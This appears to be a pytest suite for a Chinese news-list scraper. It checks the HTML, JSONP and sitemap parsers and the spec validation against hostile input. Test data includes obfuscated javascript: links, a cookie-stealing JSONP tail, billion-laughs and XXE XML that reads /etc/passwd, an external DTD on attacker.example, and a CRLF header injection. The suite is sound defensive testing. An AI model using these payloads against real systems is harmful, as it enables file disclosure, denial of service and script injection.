"""Unit tests of each list kind's parser, the spec's validation and the yield alarm,
hostile input included."""

from __future__ import annotations

import time
from datetime import UTC, datetime

import pytest

from zhuanlan.errors import ConfigError, ExtractError, SourceError
from zhuanlan.sources.api_article import parse_api_article
from zhuanlan.sources.entries import url_date
from zhuanlan.sources.health import yield_alarm
from zhuanlan.sources.html_list import next_page_url, parse_html_list
from zhuanlan.sources.json_list import parse_json_list
from zhuanlan.sources.jsonp import load_json
from zhuanlan.sources.read import read_list, read_pages
from zhuanlan.sources.sitemap import parse_sitemap, sitemap_children
from zhuanlan.sources.spec import expand_url, resolve_spec, spec_from_dict, spec_to_dict

BASE = "https://www.example.cn/list/index.html"


def html_spec(**kw):
    return spec_from_dict({"kind": "html", "url": BASE, "links": "a", **kw})


def json_spec(**kw):
    return spec_from_dict({"kind": "json", "url": "https://www.example.cn/l.json",
                           "fields": {"url": "u", "title": "t", "date": "d"}, **kw})


SITEMAP = "https://www.example.cn/sitemap.xml"
SITEMAP_SPEC = spec_from_dict({"kind": "sitemap", "url": SITEMAP})


# --- html ----------------------------------------------------------------------------

def test_html_drops_javascript_in_any_disguise():
    page = """<html><body>
      <a href="javascript:alert(1)">a</a>
      <a href="jav&#x09;ascript:alert(2)">b</a>
      <a href="  JaVaScRiPt:alert(3)">c</a>
      <a href="&#106;avascript:alert(4)">d</a>
      <a href="java&#10;script:alert(5)">e</a>
      <a href="data:text/html,<script>alert(6)</script>">f</a>
      <a href="vbscript:x">g</a>
      <a href="/n/2024/0506/ok.html">正常的文章</a>
    </body></html>"""
    feed = parse_html_list(page, BASE, html_spec())
    assert [e.url for e in feed.entries] == ["https://www.example.cn/n/2024/0506/ok.html"]


def test_html_items_titles_dates_pattern_and_dedupe():
    page = """<html><head><title>列表 &amp; 栏目</title><base href="https://cdn.example.cn/x/"></head><body>
      <ul>
        <li><a href="a.html"><img src="i.jpg"></a><a href="a.html"><b>第一</b> 篇</a><span>2024年05月06日 10:30</span></li>
        <li><a href="b.html#top">第二篇</a><span>发布：2024-05-05</span></li>
        <li><a href="b.html">第二篇（重复）</a></li>
        <li><a href="/other/c.html">不匹配</a></li>
      </ul></body></html>"""
    spec = html_spec(item="ul li", date="span", link_pattern=r"cdn\.example\.cn/x/")
    feed = parse_html_list(page, BASE, spec)
    assert feed.title == "列表 & 栏目"
    assert [(e.title, e.url) for e in feed.entries] == [
        ("第一 篇", "https://cdn.example.cn/x/a.html"), ("第二篇", "https://cdn.example.cn/x/b.html#top")]
    assert feed.entries[0].published.isoformat() == "2024-05-06T10:30:00+08:00"
    assert feed.entries[1].published.isoformat() == "2024-05-05T00:00:00+08:00"


def test_html_not_a_page():
    with pytest.raises(SourceError):
        parse_html_list("   ", BASE, html_spec())


@pytest.mark.parametrize("url,day", [
    ("http://www.people.com.cn/n1/2024/0506/c1001-1.html", "2024-05-06"),
    ("https://www.news.cn/politics/20240507/abc/c.html", "2024-05-07"),
    ("https://www.gov.cn/xinwen/2024-05/08/content_1.htm", "2024-05-08"),
    ("https://news.cctv.com/2024/05/09/ARTIabc.shtml", "2024-05-09"),
    ("http://paper.people.com.cn/rmrb/pc/content/202405/10/content_1.html", "2024-05-10"),
    ("https://www.example.cn/2024/1399/x.html", None),
    ("https://www.example.cn/about.html", None),
])
def test_url_date(url, day):
    found = url_date(url)
    assert (found.date().isoformat() if found else None) == day
    if found:
        assert found.utcoffset().total_seconds() == 8 * 3600


def _pages(n_links: dict[str, str]):
    calls = []

    def fetch(url):
        calls.append(url)
        return n_links[url].encode("utf-8"), "", url
    return fetch, calls


def _page(i: int, nxt: str) -> str:
    return (f'<html><body><a href="/a/2024/0506/{i}.html">文章{i}</a>'
            f'<a class="next" href="{nxt}">下一页</a></body></html>')


def test_paging_stops_at_max_pages():
    pages = {f"https://www.example.cn/p{i}.html": _page(i, f"/p{i + 1}.html") for i in range(1, 20)}
    spec = spec_from_dict({"kind": "html", "url": "https://www.example.cn/p1.html",
                           "links": "a", "link_pattern": "/a/", "next_page": "a.next", "max_pages": 3})
    fetch, calls = _pages(pages)
    feed = read_pages(spec, fetch)
    assert len(calls) == 3 and len(feed.entries) == 3


def test_paging_stops_on_a_loop():
    pages = {"https://www.example.cn/p1.html": _page(1, "/p2.html"),
             "https://www.example.cn/p2.html": _page(2, "/p1.html#again")}
    spec = spec_from_dict({"kind": "html", "url": "https://www.example.cn/p1.html",
                           "links": "a", "link_pattern": "/a/", "next_page": "a.next", "max_pages": 10})
    fetch, calls = _pages(pages)
    feed = read_pages(spec, fetch)
    assert calls == ["https://www.example.cn/p1.html", "https://www.example.cn/p2.html"]
    assert [e.title for e in feed.entries] == ["文章1", "文章2"]


def test_next_page_url_skips_seen_and_unsafe():
    page = '<a class="n" href="javascript:next()">x</a><a class="n" href="p1.html">1</a><a class="n" href="p2.html">2</a>'
    spec = html_spec(next_page="a.n")
    assert next_page_url(page, "https://www.example.cn/p1.html", spec) == "https://www.example.cn/p2.html"
    assert next_page_url(page, "https://www.example.cn/p1.html", spec,
                         {"https://www.example.cn/p2.html"}) is None
    assert next_page_url(page, BASE, html_spec()) is None


# --- json / jsonp ---------------------------------------------------------------------

def test_json_list_paths_dates_and_links():
    doc = ('cb({"data": {"list": [{"u": "/n/1.html", "t": "一 <i>号</i>", "d": 1714962600},'
           '{"u": "javascript:alert(1)", "t": "坏"}, {"u": "https://x.cn/2.html", "t": "二", "d": "2024-05-06T10:30:00Z"},'
           '{"u": "/n/1.html", "t": "重复"}, "not a dict", {"t": "无链接"}]}});')
    feed = parse_json_list(doc, "https://www.example.cn/l.jsonp", json_spec(items="data.list"))
    assert [(e.title, e.url) for e in feed.entries] == [
        ("一 号", "https://www.example.cn/n/1.html"), ("二", "https://x.cn/2.html")]
    assert feed.entries[0].published == datetime(2024, 5, 6, 2, 30, tzinfo=UTC)
    assert feed.entries[1].published == datetime(2024, 5, 6, 10, 30, tzinfo=UTC)


def test_json_url_template_from_id():
    spec = spec_from_dict({"kind": "json", "url": "https://www.example.cn/l.json",
                           "fields": {"title": "t", "id": "i"},
                           "url_template": "https://www.example.cn/d?id={id}"})
    feed = parse_json_list('[{"t": "甲", "i": "a b&c"}]', "https://www.example.cn/l.json", spec)
    assert feed.entries[0].url == "https://www.example.cn/d?id=a%20b%26c"
    assert feed.entries[0].guid == "a b&c"


@pytest.mark.parametrize("doc", [
    "cb({\"a\": 1}); alert(document.cookie)",     # code after the call
    "cb(alert(1))",                               # not JSON inside
    "<html>not json</html>",
    "cb({\"a\": 1}",                              # unterminated
    "{\"a\": ",                                   # broken JSON
    "a(b({\"x\":1}))",                            # nested call
    "",
    "[" * 100000 + "]" * 100000,                  # recursion bomb
])
def test_jsonp_garbage_is_a_source_error(doc):
    with pytest.raises(SourceError):
        load_json(doc, "https://x.cn/l.jsonp")


def test_jsonp_forms():
    assert load_json('/**/ china({"a": [1]});', "u") == {"a": [1]}
    assert load_json('var data = window.cb({"a": 2})', "u") == {"a": 2}
    assert load_json('\ufeff{"a": 3}', "u", jsonp=None) == {"a": 3}
    with pytest.raises(SourceError):
        load_json('{"a": 1}', "u", jsonp=True)
    with pytest.raises(SourceError):
        load_json('cb({"a": 1})', "u", jsonp=False)


def test_json_items_path_not_a_list():
    with pytest.raises(SourceError, match="data.list"):
        parse_json_list('{"data": {"list": {}}}', "https://x.cn/l.json", json_spec(items="data.list"))


# --- sitemap --------------------------------------------------------------------------

NEWS_SITEMAP = """<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"
        xmlns:news="http://www.google.com/schemas/sitemap-news/0.9">
  <url><loc>https://www.example.cn/2024/05/06/a.html</loc>
    <news:news><news:publication><news:name>Example</news:name><news:language>zh</news:language></news:publication>
      <news:publication_date>2024-05-06T10:30:00+08:00</news:publication_date>
      <news:title>新闻 &amp; 标题</news:title></news:news></url>
  <url><loc>javascript:alert(1)</loc></url>
  <url><loc>https://www.example.cn/b.html</loc><lastmod>2024-05-05</lastmod></url>
</urlset>""".encode()


def test_news_sitemap():
    feed = parse_sitemap(NEWS_SITEMAP, SITEMAP, SITEMAP_SPEC)
    assert [e.url for e in feed.entries] == ["https://www.example.cn/2024/05/06/a.html",
                                             "https://www.example.cn/b.html"]
    assert feed.entries[0].title == "新闻 & 标题"
    assert feed.entries[0].published.isoformat() == "2024-05-06T10:30:00+08:00"
    assert feed.entries[1].published.isoformat() == "2024-05-05T00:00:00+08:00"


def test_sitemap_index_children_and_paging():
    index = b"""<?xml version="1.0"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
      <sitemap><loc>https://www.example.cn/s1.xml</loc><lastmod>2024-05-01</lastmod></sitemap>
      <sitemap><loc>https://www.example.cn/s2.xml</loc><lastmod>2024-05-06</lastmod></sitemap>
      <sitemap><loc>file:///etc/passwd</loc></sitemap></sitemapindex>"""
    assert sitemap_children(index, SITEMAP) == ("https://www.example.cn/s2.xml",
                                                "https://www.example.cn/s1.xml")
    assert parse_sitemap(index, SITEMAP, SITEMAP_SPEC).entries == ()
    docs = {SITEMAP: index, "https://www.example.cn/s2.xml": NEWS_SITEMAP,
            "https://www.example.cn/s1.xml": NEWS_SITEMAP}
    calls = []

    def fetch(url):
        calls.append(url)
        return docs[url], "", url
    spec = spec_from_dict({"kind": "sitemap", "url": SITEMAP, "max_pages": 2})
    feed = read_pages(spec, fetch)
    assert calls == [SITEMAP, "https://www.example.cn/s2.xml"]
    assert len(feed.entries) == 2


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://x.cn/&lol9;</loc></url></urlset>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://x.cn/&xxe;</loc></url></urlset>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE urlset SYSTEM "http://attacker.example/evil.dtd">
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://x.cn/a</loc></url></urlset>"""


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY])
def test_sitemap_refuses_entities_quickly(doc):
    started = time.monotonic()
    with pytest.raises(SourceError, match="DOCTYPE"):
        parse_sitemap(doc, SITEMAP, SITEMAP_SPEC)
    with pytest.raises(SourceError):
        sitemap_children(doc, SITEMAP)
    assert time.monotonic() - started < 5   # an expanded billion laughs takes minutes


@pytest.mark.parametrize("doc", [b"", b"<html><body>x</body></html>", b"<urlset><url>",
                                 b"\x1f\x8b\x08garbage"])
def test_sitemap_garbage(doc):
    with pytest.raises(SourceError):
        parse_sitemap(doc, SITEMAP, SITEMAP_SPEC)


def test_sitemap_gzip():
    import gzip
    feed = parse_sitemap(gzip.compress(NEWS_SITEMAP), SITEMAP, SITEMAP_SPEC)
    assert len(feed.entries) == 2


# --- dispatcher -----------------------------------------------------------------------

def test_read_list_dispatches_and_decodes_gbk_bytes():
    page = '<html><head><meta charset="gbk"></head><body><a href="/a.html">朱镕基</a></body></html>'
    feed = read_list(html_spec(), page.encode("gbk"), "mojibake", BASE)
    assert feed.entries[0].title == "朱镕基"
    feed = read_list(html_spec(), b"", page, BASE)   # text used when there are no bytes
    assert feed.entries[0].title == "朱镕基"
    feed = read_list(json_spec(), b'[{"u": "/x.html", "t": "\\u7532"}]', "", BASE)
    assert feed.entries[0].title == "甲"


# --- api article ----------------------------------------------------------------------

def test_api_article_errors():
    spec = spec_from_dict({"kind": "json", "url": "https://x.cn/l.json", "fields": {"url": "u", "title": "t"},
                           "article_api": {"url_template": "https://x.cn/a/{id}.js", "id_pattern": r"id=(\w+)"}})
    with pytest.raises(ExtractError) as exc:
        parse_api_article("garbage(", "https://x.cn/d?id=1", spec)
    assert exc.value.reason == "api_unreadable"
    with pytest.raises(ExtractError) as exc:
        parse_api_article('{"title": "t", "content": "<script>x</script>"}', "https://x.cn/d?id=1", spec)
    assert exc.value.reason == "no_text"
    with pytest.raises(ExtractError) as exc:
        parse_api_article("{}", "https://x.cn/d?id=1", json_spec())
    assert exc.value.reason == "no_article_api"


# --- spec -----------------------------------------------------------------------------

@pytest.mark.parametrize("data,field", [
    ({"kind": "rss", "url": BASE}, "spec.kind"),
    ({"kind": "html", "url": BASE}, "spec.links"),
    ({"kind": "html", "url": BASE, "links": "a[["}, "spec.links"),
    ({"kind": "html", "url": BASE, "links": "a", "link_pattern": "(("}, "spec.link_pattern"),
    ({"kind": "html", "url": BASE, "links": "a", "max_pages": 11}, "spec.max_pages"),
    ({"kind": "html", "url": BASE, "links": "a", "max_pages": "2"}, "spec.max_pages"),
    ({"kind": "html", "url": "ftp://x.cn/", "links": "a"}, "spec.url"),
    ({"kind": "html", "links": "a"}, "spec.url"),
    ({"kind": "html", "url": BASE, "links": "a", "colour": "red"}, "spec.colour"),
    ({"kind": "json", "url": BASE, "fields": {"title": "t"}}, "spec.fields.url"),
    ({"kind": "json", "url": BASE, "fields": {"url": "u", "title": "t", "body": "b"}}, "spec.fields.body"),
    ({"kind": "json", "url": BASE, "fields": {"title": "t"}, "url_template": "https://x.cn/{id}"},
     "spec.fields.id"),
    ({"kind": "feed", "url": BASE, "authority": 101}, "spec.authority"),
    ({"kind": "feed", "url": BASE, "headers": {"Referer": "a\r\nX-Evil: 1"}}, "spec.headers.Referer"),
    ({"kind": "feed", "url": BASE, "article": {"body": ["#ok", "p >> >"]}}, "spec.article.body"),
    ({"kind": "feed", "url": BASE, "article": {"bodyy": "#x"}}, "spec.article.bodyy"),
    ({"kind": "feed", "url": BASE, "article_api": {"url_template": "https://x.cn/a", "id_pattern": "(x)"}},
     "spec.article_api.url_template"),
    ({"kind": "feed", "url": BASE, "article_api": {"url_template": "https://x.cn/{id}", "id_pattern": "x"}},
     "spec.article_api.id_pattern"),
    ({"kind": "feed", "url": "https://x.cn/{channel}.json"}, "params.channel"),
    ({"kind": "feed", "url": BASE, "encoding": "klingon"}, "spec.encoding"),
])
def test_invalid_spec_names_the_field(data, field):
    with pytest.raises(ConfigError) as exc:
        spec_from_dict(data)
    assert exc.value.key == field


def test_spec_round_trip_and_defaults():
    spec = spec_from_dict({"kind": "html", "url": BASE, "links": ".list a",
                           "headers": {"Referer": "https://x.cn/"},
                           "article": {"body": "#content", "remove": [".ad"]}})
    assert spec.max_pages == 1 and spec.article.body == ("#content",)
    assert spec_from_dict(spec_to_dict(spec)) == spec
    assert spec_to_dict(spec)["headers"] == {"Referer": "https://x.cn/"}


def test_expand_url():
    now = datetime(2024, 5, 31, 16, 30, tzinfo=UTC)     # June 1st in Beijing
    assert expand_url("https://p.cn/{date:%Y%m/%d}/node_01.html", now) == "https://p.cn/202406/01/node_01.html"
    assert expand_url("https://p.cn/{date}", now) == "https://p.cn/2024-06-01"
    assert expand_url("https://x.cn/{c}.json", now, {"c": "a/b?"}) == "https://x.cn/a%2Fb%3F.json"
    with pytest.raises(ConfigError):
        expand_url("https://x.cn/{c}.json", now, {})
    with pytest.raises(ValueError):
        expand_url("https://x.cn/", datetime(2024, 5, 1))
    spec = spec_from_dict({"kind": "feed", "url": "https://x.cn/{c}.json", "params": {"c": "d"}})
    assert resolve_spec(spec, now=now).url == "https://x.cn/d.json"
    assert resolve_spec(spec, now=now, params={"c": "e"}).url == "https://x.cn/e.json"


# --- yield alarm ----------------------------------------------------------------------

def test_yield_alarm():
    spec = html_spec()
    assert yield_alarm(spec, 12, [10, 11]) is None
    assert yield_alarm(spec, 0, []) is None
    assert yield_alarm(spec, 0, [0, 0]) is None
    msg = yield_alarm(spec, 0, [10, 12, 9])
    assert "一条也没有" in msg and "12" in msg and BASE in msg
    # Empty for longer than the recent window: already reported, stays quiet.
    assert yield_alarm(spec, 0, [10, 0, 0, 0, 0, 0]) is None
    strict = html_spec(expect_min_items=5)
    assert "少于预期" in yield_alarm(strict, 2, [10, 11])
    assert "首次" in yield_alarm(strict, 0, [])
    assert yield_alarm(strict, 5, [10]) is None


# --- JSON Feed ------------------------------------------------------------------------

def test_json_feed():
    from zhuanlan.sources.feed import parse_feed
    doc = """{"version": "https://jsonfeed.org/version/1.1", "title": "理论 <b>频道</b>",
      "home_page_url": "https://www.example.cn/", "authors": [{"name": "编辑部"}],
      "items": [
        {"id": "1", "url": "/a/1.html", "title": "第一篇", "content_html": "<p>正文&nbsp;一</p>",
         "date_published": "2024-05-06T10:30:00+08:00"},
        {"id": 2, "url": "jav\\tascript:alert(1)", "title": "坏"},
        {"id": "3", "external_url": "https://x.cn/3.html", "title": "第三篇", "date_published": "2024年05月05日",
         "authors": [{"name": "王某"}]},
        "junk"]}""".encode()
    feed = parse_feed(doc, "https://www.example.cn/feed.json")
    assert feed.title == "理论 频道" and feed.link == "https://www.example.cn/"
    assert [e.url for e in feed.entries] == ["https://www.example.cn/a/1.html", "https://x.cn/3.html"]
    assert feed.entries[0].summary == "正文 一" and feed.entries[0].author == "编辑部"
    assert feed.entries[1].published.isoformat() == "2024-05-05T00:00:00+08:00"
    assert feed.entries[1].author == "王某"
    with pytest.raises(SourceError):
        parse_feed(b'{"not": "a feed"}', "https://www.example.cn/feed.json")
    with pytest.raises(SourceError):
        parse_feed(b'{"version": ', "https://www.example.cn/feed.json")
